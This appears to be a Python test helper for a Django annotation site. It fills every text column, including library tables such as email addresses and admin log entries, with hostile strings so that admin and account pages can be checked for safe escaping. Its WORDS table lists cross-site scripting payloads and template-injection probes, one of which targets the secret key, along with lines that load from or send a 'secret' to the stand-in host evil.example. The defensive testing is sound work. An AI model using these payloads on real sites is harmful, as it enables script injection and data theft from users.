"""Hostile texts, and a site that has them in every text column."""

import json
import re
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

from allauth.account.models import EmailAddress
from allauth.mfa.models import Authenticator
from allauth.socialaccount.models import SocialAccount
from django.apps import apps
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.db import IntegrityError, connection, models, transaction
from django.urls import reverse

import builders
from annotation.consensus.close import close_item
from annotation.core.append_only import MODELS as APPEND_ONLY
from annotation.core.append_only import trigger_names
from annotation.domain.choices import Role, Stage
from annotation.models import CompetenceEstimate, Guideline, GuidelineExample, Project, Report, Skip, User
from annotation.models.lines import LineField
from annotation.review import adjudicate
from rows_of_every_model import OURS
from runs.models import Pause, Run
from site_objects import World

WORDS = {
    "B40 a script": "<script>alert(1)</script>",
    "B41 a picture with a handler": "<img src=x onerror=alert(1)>",
    "B41 out of an attribute": "\"><svg/onload=alert(1)>' onmouseover=alert(1) x='",
    "B42 htmx": '<div hx-get="/export" hx-trigger="load"></div>',
    "B43 templates": "{{7*7}} {% debug %} ${7*7} {{ settings.SECRET_KEY }}",
    "B44 out of a form": "</textarea><form action=//evil.example><input name=q>",
    "B47 a picture that tells": "![](http://evil.example/?d=secret) <a href=http://evil.example>x</a>",
    "B48 a file name": '"><img onerror=alert(1)>.png',
    "B49 a name": "<b onclick=alert(1)>Ada</b> & Co.",
    "B50 out of JSON": '{"hotkey":"</script><script>alert(1)</script>"}',
    "B51 a style": "<style>*{background:url(//evil.example)}</style>",
    "B46 Markdown": "[x](javascript:alert(1)) <iframe src=//evil.example></iframe> ![y](//evil.example/z)",
}
KEPT = {
    "sha256", "file_sha256", "body_sha256", "text_sha256", "prompt_digest", "password", "media_type", "pattern",
    "export_key", "verb", "method", "variant", "provider", "key", "kind", "role", "owner", "external_id", "folder",
    "language", "reason of Prior",
    # digests, seeds, secrets under a seal, and codes of the program's own
    "token_sha256", "address_digest", "archive_sha256", "cases_digest", "wish_digest", "picture_sha256", "digest",
    "scored_sha256", "sealed_secret", "sealed_facts", "influence_seed", "likeness", "seen_intent", "request_id",
    "traceparent", "act", "form", "reader", "process", "happening", "fact", "code", "question of StoredLook",
    "reason of PictureText", "trouble",
    "name of ModelFact",  # of the settings
    "words of Passage", "text of Passage",  # the index of a search holds them too
}  # fmt: skip
"""Columns that only the site itself writes, or whose characters are checked before they are stored."""


OF_LIBRARIES = {
    "account.EmailAddress": ("email",),
    "admin.LogEntry": ("object_repr", "change_message"),
    "auth.Group": ("name",),
    "mfa.Authenticator": ("data",),
    "socialaccount.SocialAccount": ("uid", "extra_data"),
}
"""Columns of the libraries' tables that hold words of people or of a provider, beside those of the site's own apps."""


def unguard() -> None:
    """Lift the guard of append-only tables until the transaction of the test or of its module is undone."""
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
        for name in APPEND_ONLY:
            table = apps.get_model("annotation", name)._meta.db_table
            for trigger in trigger_names(table, connection.vendor):
                on_table = f' ON "{table}"' if connection.vendor == "postgresql" else ""
                cursor.execute(f'DROP TRIGGER IF EXISTS "{trigger}"{on_table}')


MARK = re.compile(r"c(\d+)q")


def write_everywhere(words: str) -> dict[str, str]:
    """Write the text into every column for texts of people, files or models, and into the texts of JSON columns.

    Return the written columns by the mark that begins each one's text (`MARK`). The guard of append-only tables has to
    be lifted before.
    """
    marks: dict[str, str] = {}
    with connection.cursor() as cursor:
        for field in _fields():
            marked = f"c{len(marks)}q{words}"
            if isinstance(field, models.JSONField):
                if not _write_json(cursor, field, marked):
                    continue
            else:
                _write(cursor, field, marked)
            marks[f"c{len(marks)}q"] = f"{field.model.__name__}.{field.name}"
    return marks


def _fields() -> Iterator[models.Field[Any, Any]]:
    for model in (model for app in OURS for model in apps.get_app_config(app).get_models()):
        own = set(written(model))
        yield from (
            field for field in model._meta.concrete_fields if field in own or isinstance(field, models.JSONField)
        )
    for label, names in OF_LIBRARIES.items():
        yield from (apps.get_model(label)._meta.get_field(name) for name in names)  # type: ignore[misc]  # columns, no relations


def _write(cursor: Any, field: models.Field[Any, Any], words: str) -> None:
    """Write the text into all rows; where a key or a rule of the database allows it in some alone, into those."""
    key, table = field.model._meta.pk.column, field.model._meta.db_table
    at_most = words[: field.max_length] if field.max_length else words
    change = f'UPDATE {table} SET "{field.column}" = %s WHERE {key} = %s'
    for row in models.QuerySet(field.model).values_list("pk", flat=True).order_by("pk"):
        with suppress(IntegrityError), transaction.atomic():
            cursor.execute(change, [at_most, row])


def _write_json(cursor: Any, field: models.Field[Any, Any], words: str) -> bool:
    """Put the words in the place of every text of several words. Return whether there was one."""
    key, table = field.model._meta.pk.column, field.model._meta.db_table
    cursor.execute(f'SELECT {key}, "{field.column}" FROM {table}')
    changed = [(_in_json(value, words), row) for row, value in cursor.fetchall() if " " in str(value)]
    stored = [(new, row) for new, row in changed if words in new]
    for new, row in stored:
        cursor.execute(f'UPDATE {table} SET "{field.column}" = %s WHERE {key} = %s', [new, row])
    return bool(stored)


def _in_json(value: Any, words: str) -> str:
    """Return JSON whose texts of several words are these words; texts of one word are codes."""
    read = json.loads(value) if isinstance(value, str) else value
    return json.dumps(_replaced(read, words), ensure_ascii=False)


def _replaced(value: Any, words: str) -> Any:
    if isinstance(value, dict):
        return {name: _replaced(inner, words) for name, inner in value.items()}
    if isinstance(value, list):
        return [_replaced(inner, words) for inner in value]
    return words if isinstance(value, str) and " " in value.strip() else value


def written(model: type[models.Model]) -> Iterator[models.Field[Any, Any]]:
    """Yield the columns of a model that hold texts of people, files or models."""
    for field in model._meta.concrete_fields:
        excluded = {field.name, f"{field.name} of {model.__name__}"} & KEPT
        if type(field) in (models.CharField, models.TextField, LineField) and not field.choices and not excluded:
            yield field


def in_a_key(field: models.Field[Any, Any]) -> bool:
    constraints = field.model._meta.constraints
    keys = [constraint.fields for constraint in constraints if isinstance(constraint, models.UniqueConstraint)]
    return field.unique or any(field.name in key for key in keys)


def fill(world: World) -> None:
    """Add rows with texts: an adjudication, a report, a skip, a failed run, a guideline, a pause."""
    project = world.project
    reviewer, person = builders.make_member(project, Role.REVIEWER), world.members[Role.ANNOTATOR]
    disputed = builders.make_labelled_item(project, [builders.make_member(project) for _ in range(3)], [0, 1, 2])
    close_item(disputed)
    disputed.refresh_from_db()
    adjudicate.decide_item(disputed, reviewer, disputed.version, "Because.", builders.category(project, 1), {})
    Skip.objects.create(item=world.open_item, annotator=world.other, reason="x")
    reported = builders.make_item(project, stage=Stage.EXCLUDED, excluded_for="reported")
    Report.objects.create(item=reported, reporter=person, note="x")
    guideline = Guideline.objects.create(project=project, number=2, text="x", summary="x", asks_reading=False)
    GuidelineExample.objects.create(guideline=guideline, text="x", why="x", category=builders.category(project, 1))
    CompetenceEstimate.objects.create(project=project, method="dawid-skene", state="failed", problem="x")
    Pause.objects.create(provider="openai", detail="x", until="2100-01-01T00:00:00Z")
    Run.objects.create(
        method="prior", project=project.public_id, subject=world.item.public_id, variant="text", provider="openai",
        detail="x", call_limit=1, token_limit=1, seconds_limit=1,
    )  # fmt: skip
    person.reviews = person.administers = True
    person.save()
    assert person.user is not None
    _fill_libraries(person.user, world)


def _fill_libraries(user: User, world: World) -> None:
    """Add an address, a security key, a connected account, a group, and a change by the site's administration."""
    EmailAddress.objects.create(user=user, email="wren@example.org")
    key = {"name": "My key", "credential": {"clientExtensionResults": {}}}
    Authenticator.objects.create(user=user, type=Authenticator.Type.WEBAUTHN, data=key)
    SocialAccount.objects.create(user=user, provider="oidc", uid="sub-1", extra_data={"userinfo": {"name": "Wren W."}})
    Group.objects.create(name="Lab")
    LogEntry.objects.create(
        user=user,
        content_type=ContentType.objects.get_for_model(Project),
        object_id=str(world.project.pk),
        object_repr="Here",
        action_flag=CHANGE,
        change_message="Changed.",
    )


def admin_pages(world: World) -> Iterator[str]:
    for model in ("user", "project", "membership", "item", "event", "import", "release"):
        yield reverse(f"admin:annotation_{model}_changelist")
    yield reverse("admin:annotation_item_change", args=[world.item.pk])
    yield reverse("admin:annotation_project_change", args=[world.project.pk])
    yield reverse("admin:annotation_membership_change", args=[world.other.pk])
    yield reverse("admin:index")
    yield reverse("admin:annotation_project_history", args=[world.project.pk])
    for model in (EmailAddress, Authenticator, SocialAccount, Group):
        of_model = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        yield reverse(f"{of_model}_changelist")
        yield reverse(f"{of_model}_change", args=[model._default_manager.values_list("pk", flat=True)[0]])


ACCOUNT_PAGES = (
    "account_email",
    "account_change_password",
    "mfa_index",
    "mfa_list_webauthn",
    "socialaccount_connections",
)
"""Pages of the libraries that show a person's own."""
